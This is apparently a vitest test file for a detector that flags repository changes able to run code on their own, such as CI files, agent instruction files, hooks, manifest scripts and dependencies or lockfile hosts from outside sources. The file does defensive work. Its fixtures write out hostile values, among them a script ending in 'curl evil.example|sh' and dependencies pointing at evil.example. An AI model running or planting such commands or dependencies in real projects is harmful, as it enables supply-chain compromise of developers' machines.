import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { type ChangedFile, selfRunningChanges, withSelfRunningContent } from './self-running.ts';
import { SELF_RUNNING_PATHS } from './self-running-table.ts';

const added = (path: string, mode = '100644'): ChangedFile => ({ path, before: null, after: { mode, oid: 'new' } });
const edited = (path: string): ChangedFile => ({
  path,
  before: { mode: '100644', oid: 'old' },
  after: { mode: '100644', oid: 'new' },
});
const reasons = (path: string, before: string, after: string): string[] =>
  selfRunningChanges(
    [edited(path)],
    new Map([
      ['old', before],
      ['new', after],
    ]),
  ).map(({ reason }) => reason);

describe('the table of paths that can run code by themselves', () => {
  it('knows them anywhere in the tree, in any case and by names that some file systems read alike', () => {
    const paths = [
      '.github/workflows/ci.yml',
      'sub/.GitHub/workflows/x',
      '.gitlab-ci.yml',
      '.vscode/tasks.json',
      'a/b/.idea/x.xml',
      '.devcontainer/devcontainer.json',
      '.claude/settings.json',
      '.cursorrules',
      '.cursor/rules/x',
      '.mcp.json',
      'agents.md',
      'docs/CLAUDE.md',
      'GEMINI.md',
      '.github/copilot-instructions.md',
      '.husky/pre-commit',
      'lefthook.yml',
      '.pre-commit-config.yaml',
      '.npmrc',
      '.yarnrc.yml',
      '.pnpmfile.cjs',
      'pip.conf',
      '.cargo/config.toml',
      '.envrc',
      '.gitattributes',
      'src/.gitmodules',
      '.lfsconfig',
      'CODEOWNERS',
      'docs/codeowners',
      'Dockerfile',
      'Dockerfile.dev',
      'Containerfile',
      'compose.override.yml',
      'docker-compose.yml',
      '.autonomous/config.json',
      'setup.py',
      'build.rs',
      '.gitlab-ci.yaml',
      '.build.yml',
      'renovate.json',
      '.Rprofile',
      'sub/.gdbinit',
      '.env.production.local',
      '.config/mise/config.toml',
      'hooks/pre-commit',
      'WARP.md',
      'package.yaml',
      'plug-1.0-py3-none-any.whl',
      'src/__pycache__/a.cpython-311.pyc',
      'evil.DIST-INFO/entry_points.txt',
      '.github./workflows/x',
      '.git\u200Bhub/workflows/x',
      'AGENTS.md ',
    ];
    const found = selfRunningChanges(
      paths.map((path) => added(path)),
      new Map(),
    );
    expect(paths.filter((path) => !found.some((change) => change.path === path))).toEqual([]);
  });

  it('leaves ordinary files alone', () => {
    const paths = [
      'src/github/index.ts',
      'docs/docker.md',
      'Makefile',
      'src/agents.ts',
      'README.md',
      'src/vscode.ts',
      'src/hooks/pre-render.ts',
      '.env.example',
      'main.rs',
    ];
    expect(
      selfRunningChanges(
        paths.map((path) => added(path)),
        new Map(),
      ),
    ).toEqual([]);
  });

  it('knows a removal, a mode and a link', () => {
    const gone: ChangedFile = { path: 'CODEOWNERS', before: { mode: '100644', oid: 'old' }, after: null };
    const all = selfRunningChanges([gone, added('run.sh', '100755'), added('lib', '160000')], new Map());
    expect(all.map(({ reason }) => reason)).toEqual([
      'removed: it says who has to review what',
      'new: the file is executable now',
      'new: the file is another repository (a submodule) now',
    ]);
  });

  it('counts what symbolic links of the table lead to, through other links and folders', () => {
    const links = [
      ['AGENTS.md', 'docs/guide.md'],
      ['docs', './pages//en'],
      ['.claude', 'tools/claude'],
      ['.idea', 't'],
      ['sub/package.json', '../templates/manifest.txt'],
      ['loop', 'loop'],
      ['out', '../../etc'],
    ] as const;
    const paths = [
      'docs/guide.md',
      'pages/en/guide.md',
      'tools/claude/settings.json',
      't/x.xml',
      'docs/other.md',
      'tools/claude-notes.txt',
    ];
    const found = selfRunningChanges(paths.map(edited), new Map(), { links });
    expect(found.map(({ path }) => path)).toEqual(paths.slice(0, 4));
    expect(found[0]?.reason).toBe(
      'changed: coding agents take it for instructions, or start programs that it names (the link AGENTS.md leads to it)',
    );
    const contents = new Map([
      ['old', '{}'],
      ['new', '{"scripts": {"prepare": "x"}}'],
    ]);
    expect(withSelfRunningContent([edited('templates/manifest.txt'), edited('a.txt')], { links })).toHaveLength(1);
    expect(selfRunningChanges([edited('templates/manifest.txt')], contents, { links })).toEqual([
      expect.objectContaining({ reason: 'new: scripts.prepare: x (the link sub/package.json leads to it)' }),
    ]);
    const moved = { path: 'lib', before: { mode: '120000', oid: 'old' }, after: { mode: '120000', oid: 'new' } };
    expect(selfRunningChanges([moved], new Map())[0]?.reason).toBe(
      'changed: the file is a symbolic link to another place now',
    );
  });

  it('takes time in proportion to the number of files', () => {
    const many = Array.from({ length: 50_000 }, (_, index) => added(`src/a/b/c/d${index}/file-${index}.ts`));
    const from = process.threadCpuUsage();
    expect(selfRunningChanges(many, new Map(), { links: [['AGENTS.md', 'x']] })).toEqual([]);
    expect(process.threadCpuUsage(from).user / 1_000).toBeLessThan(5_000);
  });

  it('is extended by patterns of the project and never shortened by them', () => {
    const files = ['db/1.sql', '.npmrc', 'a-key-b-old-c.txt', 'an-old-key-b.txt'].map((path) => added(path));
    const more = ['DB/', '!.npmrc', '*-key-*-old-*.txt'];
    expect(selfRunningChanges(files, new Map(), { more }).map(({ path }) => path)).toEqual([
      'db/1.sql',
      '.npmrc',
      'a-key-b-old-c.txt',
    ]);
  });

  it('stands in the documentation as it is in the code', () => {
    const page = readFileSync(new URL('../../../../docs/self-running-changes.md', import.meta.url), 'utf8');
    const rows = SELF_RUNNING_PATHS.map(
      ({ patterns, reason }) => `| ${patterns.map((pattern) => `\`${pattern}\``).join(' ')} | ${reason} |`,
    );
    expect(
      rows.filter((row) => !page.includes(row)),
      `put these rows into docs/self-running-changes.md`,
    ).toEqual([]);
  });
});

describe('manifests', () => {
  it('run code by scripts, binaries and dependencies from elsewhere, and by nothing else', () => {
    const before = JSON.stringify({
      version: '1.0.0',
      scripts: { test: 'a', build: 'b' },
      dependencies: { x: '^1.0.0' },
    });
    const after = JSON.stringify({
      version: '2.0.0',
      gypfile: true,
      scripts: { test: 'a', build: 'c', postinstall: 'node x' },
      dependencies: { x: '^2.0.0', y: 'git+https://evil.example/y.git', z: 'file:../z', w: 'workspace:*' },
    });
    expect(reasons('packages/a/package.json', before, after)).toEqual([
      'new: gypfile: true',
      'changed: scripts.build: c',
      'new: scripts.postinstall: node x',
      'new: dependencies.y: git+https://evil.example/y.git',
      'new: dependencies.z: file:../z',
    ]);
    expect(reasons('package.json', before, before.replace('1.0.0', '1.0.1'))).toEqual([]);
    expect(reasons('package.json', before, '{')[0]).toContain('cannot be looked through');
  });

  it('name build back ends and entry points by sections', () => {
    const before = '[project]\nname = "x"\nversion = "1"\n[build-system]\nbuild-backend = "hatchling.build"\n';
    const after = before.replace('"1"', '"2"').replace('hatchling.build', 'evil') + '[project.scripts]\nx = "x:main"\n';
    expect(reasons('pyproject.toml', before, after)).toEqual([
      'new: project.scripts.x: x:main',
      'changed: build-system.build-backend: evil',
    ]);
  });

  it('take dependencies from elsewhere at any depth and in any short form', () => {
    const from = (dependencies: object): string[] => reasons('package.json', '{}', JSON.stringify(dependencies));
    expect(from({ overrides: { lodash: { ms: 'git+https://evil.example/ms.git' } } })).toEqual([
      'new: overrides.lodash.ms: git+https://evil.example/ms.git',
    ]);
    for (const place of [
      'npm-evil/a',
      'workspace-x/a',
      'catalog/a',
      'a.tgz',
      '..',
      'patch:a@1#./x',
      'npm:a/b',
      'workspace:https://x.example',
    ])
      expect(from({ dependencies: { a: place } }), place).toHaveLength(1);
    expect(from({ workspaces: { packages: ['a/*'], catalog: { a: 'evil/a' } } })).toEqual([
      'new: workspaces.catalog.a: evil/a',
    ]);
    for (const version of [
      '^1.0.0',
      '1.x || >=2 <3',
      'latest',
      '*',

      'workspace:*',
      'catalog:',
      '~1.2',
    ])
      expect(from({ dependencies: { a: version } }), version).toEqual([]);
  });

  it('tell of a dependency that is another package by an alias, not of its version', () => {
    const at = (version: string): string => JSON.stringify({ devDependencies: { assert: version } });
    expect(reasons('package.json', at('^2.0.0'), at('npm:noop@2.0.0'))).toEqual([
      'new: devDependencies.assert is the package noop',
    ]);
    expect(reasons('package.json', at('npm:@a/noop@2.0.0'), at('npm:@a/noop@2.0.1'))).toEqual([]);
    expect(reasons('package.json', at('^2.0.0'), at('npm:assert@2.0.0'))).toEqual([]);
  });

  it('are read as TOML, whatever their spelling', () => {
    for (const toml of [
      'build-system = { requires = [], build-backend = "evil" }',
      'build-system.build-backend = "evil"',
      '[ "build-system" ] # x\nbuild-backend = "evil"',
      '[project]\nscripts = { ls = "evil:main" }',
      '[project]\ndependencies = ["a @ git+https://evil.example/a"]',
      '[tool.poetry.dependencies.a]\npath = "../a"',
    ])
      expect(reasons('pyproject.toml', '', toml), toml).toHaveLength(1);
    for (const toml of [
      '[package] # main\n"build" = "src/gen.rs"',
      'package.build = "src/gen.rs"',
      '[lib]\nproc-macro = true',
      '[dependencies]\na = { git = "https://evil.example/a" }',
      '[target."cfg(unix)".dependencies.a]\npath = "../a"',
      '[build-dependencies]\ncc = "1"',
    ])
      expect(reasons('Cargo.toml', '', toml), toml).toHaveLength(1);
    const before = '[project]\ndependencies = ["a @ git+https://known.example/a"]\n';
    expect(reasons('pyproject.toml', before, before.replace('["a', '["b>=1", "a'))).toEqual([]);
  });

  it('count options and paths of requirements, by any of their names', () => {
    for (const path of [
      'requirements.txt',
      'dev-requirements.txt',
      'requirements/dev.txt',
      'requirements.in',
      'constraints.txt',
    ])
      for (const line of [
        `${' '.repeat(30)}-e ./evil`,
        './evil',
        'a\u2028-r other.txt',
        'evil.whl',
        'a @ file:///x',
        '-\\\ne ./evil',
      ])
        expect(reasons(path, 'a\n', `a\n${line}\n`), line).not.toEqual([]);
  });

  it('that are programs count their code, and no package that they declare', () => {
    const gemfile =
      'source "https://rubygems.org"\ngit_source(:github) { |repo| "https://github.com/#{repo}.git" }\ngem "rails", "~> 7.0"\nif false\n  load "evil.rb"\nend\n';
    const added = 'group :test, :development do\n  gem "rspec", ">= 3", require: false # tests\nend\n';
    const plain = 'source "https://rubygems.org"\ngem "rails"\n';
    expect(reasons('Gemfile', plain, plain.replaceAll('"', "'") + added)).toEqual([]);
    expect(reasons('Gemfile', gemfile, gemfile.replace('7.0', '7.1'))).toEqual([]);
    for (const line of [
      'system("x")',
      'gem "a", path: "../a"',
      'gem "a", :github => "evil/a"',
      'gem `x`',
      'gem "#{system("x")}"',
      'gem "a", load("x")',
      'gem %x(y)',
      '__END__',
      '=begin',
    ])
      expect(reasons('Gemfile', plain, plain + line), line).toContain(`new: code: ${line}`);
    expect(reasons('Gemfile', gemfile, gemfile.replace('  load "evil.rb"\nend', 'end\n  load "evil.rb"'))).toEqual([
      expect.stringContaining('changed: the order of its code'),
    ]);
    const mix =
      'defmodule A.MixProject do\n  def project, do: [\n    version: "1.0.0",\n  ]\n  defp deps, do: [\n  ]\nend\n';
    expect(
      reasons(
        'mix.exs',
        mix,
        mix.replace('[\n  ]', '[\n    {:jason, "~> 1.4", only: [:dev, :test]},\n  ]').replace('1.0.0', '1.0.1'),
      ),
    ).toEqual([]);
    for (const line of [
      '{:a, "1", compile: "evil"},',
      "{:a, '#{System.cmd(1)}'}",
      '{:a, path: "x"}',
      'System.cmd("x", [])',
    ])
      expect(reasons('mix.exs', mix, `${mix}${line}`), line).not.toEqual([]);
    const gemspec = 'Gem::Specification.new do |spec|\n  spec.version = "1"\nend\n';
    expect(reasons('a.gemspec', gemspec, gemspec.replace('"1"\n', '"2"\n  spec.add_dependency "b", ">= 1"\n'))).toEqual(
      [],
    );
    expect(reasons('a.gemspec', gemspec, gemspec.replace('"1"', 'system("x")'))).not.toEqual([]);
    const swift = 'let package = Package(\n  dependencies: [\n  ]\n)\n';
    const known = '.package(url: "https://github.com/evil/a", from: "1.0.0"),';
    expect(reasons('Package.swift', swift, swift.replace('[\n', `[\n${known}\n`))).toEqual([
      'new: packages from https://github.com/evil/a',
    ]);
    expect(reasons('gradle.properties', 'version=1\n', 'version=2\n')).toEqual([]);
    expect(reasons('gradle.properties', '', 'org.gradle.jvmargs=-javaagent:x\n')).not.toEqual([]);
    expect(reasons('gradle.properties', '', 'org\\u002egradle.jvmargs=-javaagent:x\n')).not.toEqual([]);
    expect(
      reasons(
        'go.mod',
        'module a\n',
        'module a\nrequire b.example/c v1.0.0 // indirect\ntool (\n\tb.example/c/cmd\n)\ntoolchain evil\n',
      ),
    ).toEqual(['new: tool b.example/c/cmd', 'new: toolchain evil']);
    expect(
      reasons('setup.cfg', '', '[options.entry_points] ; x\nconsole_scripts =\n  [y]\n  a = evil:main\n')[0],
    ).toContain('evil:main');
  });

  it('that cannot be parsed, are no text or are too large stop the run themselves', () => {
    for (const [path, text] of [
      ['package.json', '{"a": 1,}'],
      ['Cargo.toml', '[package\n'],
      ['deno.jsonc', '{ /* '],
      ['package.json', `{"a": "\0"}`],
      ['package-lock.json', '['.repeat(200_000)],
    ] as const)
      expect(reasons(path, '{}', text), path).toEqual([expect.stringMatching(/^cannot be looked through/)]);
    expect(reasons('package.json', '{}', '\n')).toEqual([]);
    expect(reasons('deno.jsonc', '', '{ // a\n "tasks": {"b": "c",}, /* d */ }')).toEqual(['new: tasks.b: c']);
    const bytes = Uint8Array.of(0x7b, 0xff, 0x7d);
    expect(selfRunningChanges([added('package.json')], new Map([['new', bytes]]))).toHaveLength(1);
    expect(selfRunningChanges([added('package.json')], new Map())[0]?.reason).toContain('it is too large');
  });

  it('show the beginning and the end of a long text, with a mark between', () => {
    const [spaces = ''] = reasons(
      'package.json',
      '{}',
      JSON.stringify({ scripts: { a: `node .${' '.repeat(1_000)}&& curl evil.example|sh` } }),
    );
    expect(spaces).toBe('new: scripts.a: node . && curl evil.example|sh');
    const [long = ''] = reasons(
      'package.json',
      '{}',
      JSON.stringify({ scripts: { a: `tsc ${'-p a '.repeat(200)}&& curl evil.example|sh` } }),
    );
    expect(long).toMatch(
      /^new: scripts\.a: tsc -p a .* \[… \d+ characters are left out here …\] .*&& curl evil\.example\|sh$/,
    );
    const [hidden = ''] = reasons('package.json', '{}', JSON.stringify({ scripts: { a: 'a \u202e b' } }));
    expect(hidden).not.toContain('\u202e');
  });
});

const REGISTRY = ['https://registry', 'npmjs.org'].join('.');

describe('lockfiles', () => {
  it('tell of new hosts and sources, not of new versions', () => {
    const before = `{"packages":{\n"a":{\n"resolved": "${REGISTRY}/a/-/a-1.tgz",\n"funding": {\n"url": "https://pay.example"\n}}}}`;
    const after = before.replace('a-1', 'a-2').replace('pay', 'other');
    expect(reasons('package-lock.json', before, after)).toEqual([]);
    const evil = after.replace('"funding"', '"resolved": "https://evil.example/b.tgz", "funding"');
    expect(reasons('package-lock.json', before, evil)).toEqual(['new: packages from https://evil.example']);
    expect(reasons('yarn.lock', '', '  resolved "git+ssh://git@github.com/o/r.git#abc"\n"b@file:../b":\n')).toEqual([
      'new: packages from ssh://github.com/o/r',
      'new: packages from file:../b',
    ]);
    expect(reasons('requirements-dev.txt', 'a==1\n', 'a==2\n--extra-index-url https://evil.example/simple\n')).toEqual([
      'new: packages from https://evil.example',
      'new: --extra-index-url https://evil.example/simple',
    ]);
  });

  it('are read as what they are, whatever their spelling', () => {
    const json = (url: string): string =>
      `{"packages": {"node_modules/a": {"version": "1.0.0", "resolved": "${url}"}}}`;
    const evil = [`new: packages from https://evil.example`];
    expect(reasons('package-lock.json', json(`${REGISTRY}/a.tgz`), json('https:\\/\\/evil.example\\/a.tgz'))).toEqual(
      evil,
    );
    expect(reasons('package-lock.json', '', json('https\\u003a//evil.example/a.tgz'))).toEqual(evil);
    expect(reasons('package-lock.json', '', json(`${REGISTRY}/a.tgz", "pad": "${'x'.repeat(30_000)}`))).toEqual([]);
    const url = { url: '', resolved: 'https://evil.example/a.tgz' };
    expect(
      reasons('npm-shrinkwrap.json', '', JSON.stringify({ pad: 'x'.repeat(30_000), dependencies: { a: url } })),
    ).toEqual(evil);
    const sources = JSON.stringify({ _meta: { sources: [{ url: 'https://evil.example/simple' }] } });
    expect(reasons('Pipfile.lock', '', sources)).toEqual(evil);
    expect(
      reasons('pubspec.lock', '', 'packages:\n  a:\n    description:\n      url: "https://evil.example"\n'),
    ).toEqual(evil);
    const input = { locked: { type: 'github', owner: 'evil', repo: 'x' }, original: { type: 'path', path: './x' } };
    expect(reasons('flake.lock', '', JSON.stringify({ nodes: { a: input } }))).toEqual([
      'new: packages from github:evil/x',
      'new: packages from path:./x',
    ]);
    expect(
      reasons(
        'pnpm-lock.yaml',
        '',
        'packages:\n  a@1:\n    resolution: {tarball: "https:\\x2f\\x2fevil.example"}\n',
      )[0],
    ).toMatch(/evil/);
    expect(
      reasons('uv.lock', '', '[[package]]\nname = "a"\nsource = { url = "https://evil\\u002eexample/a" }\n'),
    ).toEqual(evil);
    expect(reasons('bun.lock', '', '{"packages": {"a": ["a@1", "https://evil.example/a.tgz",],},}')).toEqual(evil);
    expect(reasons('bun.lockb', 'a', 'b')).toHaveLength(1);
    expect(reasons('pnpm-lock.yaml', '', "    tarball: 'evil\n      /a.tgz'\n")).toEqual([
      "new: a line that may hold more than it shows: tarball: 'evil",
      "new: a line that may hold more than it shows: /a.tgz'",
    ]);
    expect(reasons('Cargo.lock', '', '= no TOML')[0]).toContain('cannot be looked through');
  });

  it('name no host by an address that two readers would read in two ways', () => {
    const from = (url: string): string[] =>
      reasons('package-lock.json', '', JSON.stringify({ packages: { a: { resolved: url } } }));
    for (const url of [
      `${REGISTRY},@evil.example/a.tgz`,
      `${REGISTRY}\\@evil.example/a.tgz`,
      `${REGISTRY}%2eevil.example/a.tgz`,
      `${REGISTRY}:8443/a.tgz`,
      'https:evil.example/a.tgz',
      'https:/evil.example/a.tgz',
      'evil/a',
      '../a',
      'git@evil.example:o/r',
      'git+file:../a',
    ])
      expect(from(url), url).toHaveLength(1);
    const known = JSON.stringify({ packages: { a: { resolved: 'https://github.com/o/r/archive/1.tgz' } } });
    expect(reasons('package-lock.json', known, known.replace('o/r', 'o/r/../../evil/r'))).toHaveLength(1);
    expect(from(`${REGISTRY}/@scope/a/-/a-1.tgz`)).toEqual([]);
  });

  it('leave alone what is for people, and the packages of the project itself', () => {
    expect(reasons('setup.cfg', '', '[metadata]\nurl = https://a.example\n')).toEqual([]);
    const npm = {
      'packages/a': { version: '1.0.0', license: 'SEE LICENSE IN https://a.example' },
      'node_modules/a': { resolved: 'packages/a', link: true },
      'node_modules/b': {
        version: '1.0.0',
        resolved: `${REGISTRY}/b.tgz`,
        deprecated: 'see https://b.example',
        funding: [{ url: 'https://c.example' }],
      },
    };
    expect(reasons('package-lock.json', '', JSON.stringify({ packages: npm }))).toEqual([]);
    expect(reasons('Pipfile.lock', '', '{"default":{"a":{"editable":true,"path":"."}}}')).toEqual([]);
    const pnpm = (line: string): string => `packages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x==}\n${line}`;
    expect(reasons('pnpm-lock.yaml', '', pnpm("    deprecated: It's old, see https://a.example\n"))).toEqual([]);
    expect(
      reasons('pnpm-lock.yaml', '', pnpm("    deprecated: |-\n      It's old.\n\n      See https://a.example\n")),
    ).toEqual([]);
    expect(reasons('pnpm-lock.yaml', '', pnpm('    deprecated: old, tarball: https://evil.example\n'))).toHaveLength(1);
    const berry = '"typescript@patch:typescript@npm%3A^5.0.0#optional!builtin<compat/typescript>":\n  version: 5.0.0\n';
    expect(reasons('yarn.lock', '', berry)).toEqual([]);
    expect(reasons('yarn.lock', '', berry.replace('typescript>', 'typescript>&./evil.patch'))).toHaveLength(1);
    expect(
      reasons('Cargo.toml', '', '[package]\nhomepage = "https://a.example"\n[dependencies]\nurl = "2.5"\npath = "1"\n'),
    ).toEqual([]);
    const hashed =
      'a==1.0 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via b\nb[c]>=2; python_version < "3"\n';
    expect(reasons('requirements.txt', '', hashed)).toEqual([]);
  });

  it('take time in proportion to their size', () => {
    const hostile = `${'\\"'.repeat(300_000)}\n${'a'.repeat(2_000_000)}\n${'file:'.repeat(200_000)}\n${'://'.repeat(200_000)}\n${'git@'.repeat(100_000)}`;
    const from = process.cpuUsage();
    reasons('yarn.lock', '', hostile);
    expect(process.cpuUsage(from).user / 1_000).toBeLessThan(10_000);
  });
});
